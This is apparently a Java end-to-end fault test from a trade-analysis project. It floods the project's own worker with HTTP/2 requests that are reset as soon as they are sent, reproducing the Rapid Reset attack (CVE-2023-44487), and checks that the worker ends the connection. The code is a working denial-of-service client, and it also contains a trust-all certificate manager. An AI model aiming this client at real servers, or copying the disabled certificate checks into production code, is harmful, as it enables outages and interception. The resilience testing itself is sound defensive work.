package io.tradeanalysis.e2e.faults;

import io.tradeanalysis.contract.IdentityFiles;
import io.tradeanalysis.contract.request.AnalysisRequest;
import io.tradeanalysis.workerapi.mapping.RequestMapping;
import io.tradeanalysis.workerapi.v1.AnalyseRequest;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.SocketException;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import java.util.OptionalInt;
import javax.net.ssl.KeyManager;
import javax.net.ssl.KeyManagerFactory;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLException;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * Whole requests for an analysis over one connection, each of them reset as soon as it is made, as fast as can be
 * (CVE-2023-44487).
 */
final class RapidReset {

    private static final int PATIENCE_MILLIS = 15_000;
    private static final int REQUESTS = 1_000;

    private final InetSocketAddress target;
    private final KeyManager[] keys;

    /**
     * What came of a connection.
     *
     * @param isLetIn whether TLS was made and the worker spoke HTTP/2 then, which it does with those alone whom it knows
     * @param requests that were made in the whole before the connection ended
     * @param goAway why the worker ended it, if it said so
     * @param isAnswered whether something came back that belongs to a request
     */
    record Outcome(boolean isLetIn, int requests, OptionalInt goAway, boolean isAnswered) {

        boolean isToldToCalmDown() {
            return goAway.equals(OptionalInt.of(Http2Frames.ENHANCE_YOUR_CALM));
        }
    }

    private RapidReset(InetSocketAddress target, KeyManager... keys) {
        this.target = target;
        this.keys = keys;
    }

    /** By someone without a certificate. */
    static RapidReset byStranger(InetSocketAddress target) {
        return new RapidReset(target);
    }

    /** By someone who has a front end's identity, so that its requests are looked at. */
    static RapidReset with(IdentityFiles stolen, InetSocketAddress target)
            throws IOException, GeneralSecurityException {
        KeyManagerFactory factory = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
        factory.init(KeyStores.of(stolen), KeyStores.PASSWORD);
        return new RapidReset(target, factory.getKeyManagers());
    }

    /** Makes requests and resets them until the worker ends the connection. */
    Outcome attack() throws IOException, GeneralSecurityException, InterruptedException {
        return connect(REQUESTS, true);
    }

    /** Makes the same request once, and leaves it in peace. */
    Outcome ask() throws IOException, GeneralSecurityException, InterruptedException {
        return connect(1, false);
    }

    private Outcome connect(int requests, boolean isReset)
            throws IOException, GeneralSecurityException, InterruptedException {
        try (SSLSocket socket = (SSLSocket) context().getSocketFactory().createSocket()) {
            socket.connect(target, PATIENCE_MILLIS);
            socket.setSoTimeout(PATIENCE_MILLIS);
            SSLParameters parameters = socket.getSSLParameters();
            parameters.setApplicationProtocols(new String[] {"h2"});
            socket.setSSLParameters(parameters);
            socket.startHandshake();
            Requests sent = new Requests(requests, isReset);
            Thread writing = Thread.ofVirtual().start(() -> sent.to(socket));
            Heard heard = Heard.from(socket, isReset);
            writing.join();
            return new Outcome(heard.isLetIn, sent.made, heard.goAway, heard.isAnswered);
        }
    }

    /** Writes requests, and counts those that could be written. */
    private static final class Requests {

        private final int count;
        private final boolean isReset;
        private volatile int made;

        Requests(int count, boolean isReset) {
            this.count = count;
            this.isReset = isReset;
        }

        @SuppressWarnings("NonAtomicVolatileUpdate") // one thread writes
        void to(SSLSocket socket) {
            try {
                OutputStream out = socket.getOutputStream();
                Http2Frames.greet(out);
                byte[] message = message();
                for (int i = 0; i < count; i++) {
                    out.write(Http2Frames.call(2 * i + 1, message, isReset));
                    made++;
                }
                out.flush();
            } catch (IOException _) {
                // the other side has ended it
            }
        }

        /** As small a piece of work as there is, so that it is done if it is not given up. */
        private static byte[] message() {
            return AnalyseRequest.newBuilder()
                    .setInputs(RequestMapping.toMessage(AnalysisRequest.of(Fleet.ASSET, 20, 20, 100, 1)))
                    .build()
                    .toByteArray();
        }
    }

    /** What the worker says until it ends the connection, or until it has answered. */
    private static final class Heard {

        private boolean isLetIn;
        private boolean isAnswered;
        private OptionalInt goAway = OptionalInt.empty();

        static Heard from(SSLSocket socket, boolean untilTheEnd) throws IOException {
            Heard heard = new Heard();
            try {
                while (untilTheEnd || !heard.isAnswered) {
                    heard.take(Http2Frames.read(socket.getInputStream()));
                }
            } catch (EOFException | SocketException | SSLException _) {
                // the worker has ended it; if it does not, that is a timeout
            }
            return heard;
        }

        private void take(Http2Frames.Frame frame) {
            switch (frame.type()) {
                case Http2Frames.SETTINGS -> isLetIn = true;
                case Http2Frames.DATA -> isAnswered = true;
                case Http2Frames.GO_AWAY -> goAway = OptionalInt.of(frame.errorOfGoAway());
                default -> {
                    // says nothing about what is asked here
                }
            }
        }
    }

    private SSLContext context() throws GeneralSecurityException {
        SSLContext context = SSLContext.getInstance("TLSv1.3");
        context.init(keys, new TrustManager[] {new Anyone()}, null);
        return context;
    }

    private static final class Anyone implements X509TrustManager {

        @Override
        public void checkClientTrusted(X509Certificate[] chain, String authType) {}

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String authType) {}

        @Override
        public X509Certificate[] getAcceptedIssuers() {
            return new X509Certificate[0];
        }
    }
}
